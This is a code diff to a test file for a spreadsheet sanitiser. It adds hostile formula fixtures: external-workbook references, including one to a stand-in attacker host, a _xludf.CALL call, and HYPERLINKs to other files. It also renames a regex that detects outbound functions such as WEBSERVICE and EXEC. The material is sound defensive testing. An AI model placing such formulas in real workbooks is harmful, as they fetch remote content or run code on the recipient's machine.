@@ -31,6 +31,7 @@ from tests.sanitizers.test_ooxml import rebuild
 XM = "http://schemas.microsoft.com/office/excel/2006/main"
 X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
 C = "http://schemas.openxmlformats.org/drawingml/2006/chart"
+C15 = "http://schemas.microsoft.com/office/drawing/2012/chart"
 
 #: (cell, formula as Excel would store it, cached value): each one reaches outside.
 HOSTILE_CELLS = (
@@ -54,6 +55,8 @@ HOSTILE_CELLS = (
     ("R20", '_xludf.CALL("x")', "12"),
     ("S20", "IF(A1=1,SUM( [1]!Total ),0)", "13"),
     ("T20", "'https://attacker.example/[b.xlsx]S'!A1", "14"),
+    ("U20", "HYPERLINK(\"#'C:\\x\\[b.xlsx]S'!A1\")", "15"),
+    ("V20", 'HYPERLINK("#[1]Sheet1!A1","16")', "16"),
 )
 #: Benign formulas that must stay.
 BENIGN = (
@@ -65,9 +68,10 @@ BENIGN = (
     'HYPERLINK("https://www.city.example.lg.jp/","市のサイト")',
     "RECALLED(1)+MY_CALL(2)",
     "IMAGEN",
+    'HYPERLINK("#\'通知\'!A1","先頭へ")',
 )
 #: What no formula of the output may contain: this file's own list, not the sanitiser's.
-_CALLING_OUT = re.compile(
+CALLING_OUT_IN_TESTS = re.compile(
     r"\b(WEBSERVICE|IMAGE|RTD|CALL|REGISTER|EXEC|FILTERXML)\s*\(|\||\\|\[\d+\]|\[[^\]]*\.xls[xmb]?\]",
     re.IGNORECASE,
 )
@@ -200,7 +204,7 @@ def test_formulas_reaching_out_go_and_their_cached_values_stay(kind: str, tmp_pa
     assert removed["ooxml.data_connection"] == 1
 
     formulas = _formula_texts(dst)
-    assert [(n, t) for n, _, t in formulas if _CALLING_OUT.search(t)] == []
+    assert [(n, t) for n, _, t in formulas if CALLING_OUT_IN_TESTS.search(t)] == []
     assert ("xl/worksheets/sheet1.xml", "f", "SUM(1,2)") in formulas  # the ordinary formula stays
     assert ("xl/workbook.xml", "definedName", "'通知'!$A$1") in formulas
 
@@ -252,6 +256,8 @@ _CHART = (
     "<c:val><c:numRef><c:f>[1]Sheet1!$B$2:$B$3</c:f><c:numCache><c:formatCode>General</c:formatCode>"
     '<c:ptCount val="2"/><c:pt idx="0"><c:v>10</c:v></c:pt><c:pt idx="1"><c:v>20</c:v></c:pt>'
     "</c:numCache></c:numRef></c:val>"
+    f'<c:extLst><c:ext uri="{{02D57815-91ED-43cb-92C2-25804820EDAC}}" xmlns:c15="{C15}">'
+    "<c15:datalabelsRange><c15:f>[1]Sheet1!$C$2:$C$3</c15:f></c15:datalabelsRange></c:ext></c:extLst>"
     "</c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>"
 )
 
@@ -262,6 +268,7 @@ def test_a_chart_on_another_workbook_keeps_its_cached_points_as_literals() -> No
     context = PartContext("xl/charts/chart1.xml", "", frozenset(), Policy(True, False), False, tally)
     clean_formulas(root, context)
     assert root.find(f".//{{{C}}}f") is None
+    assert root.find(f".//{{{C15}}}f") is None
     assert root.findtext(f".//{{{C}}}tx/{{{C}}}v") == "売上"
     assert [v.text for v in root.iterfind(f".//{{{C}}}cat/{{{C}}}strLit/{{{C}}}pt/{{{C}}}v")] == [
         "4月",
